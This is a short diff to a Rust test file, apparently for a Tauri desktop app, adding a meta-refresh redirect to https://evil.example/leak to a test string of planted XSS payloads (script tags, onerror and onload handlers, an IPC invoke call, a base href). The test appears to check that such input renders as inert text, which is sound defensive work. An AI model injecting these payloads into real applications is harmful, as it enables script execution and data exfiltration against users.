@@ -136,6 +136,7 @@ async fn s22_what_a_pony_is_called_is_text() {
 const PLANTED: &str = "<script>pwned=1</script>\
     <img src=x onerror=\"pwned=2;__TAURI_INTERNALS__.invoke('open_app_data_folder')\">\
     <svg onload='pwned=3'></svg><iframe srcdoc='<script>parent.pwned=4</script>'></iframe>\
+    <meta http-equiv=refresh content='0;url=https://evil.example/leak'>\
     <base href='https://evil.example/'><b id=planted onclick='pwned=5'>Click</b>";
 
 #[tokio::test]
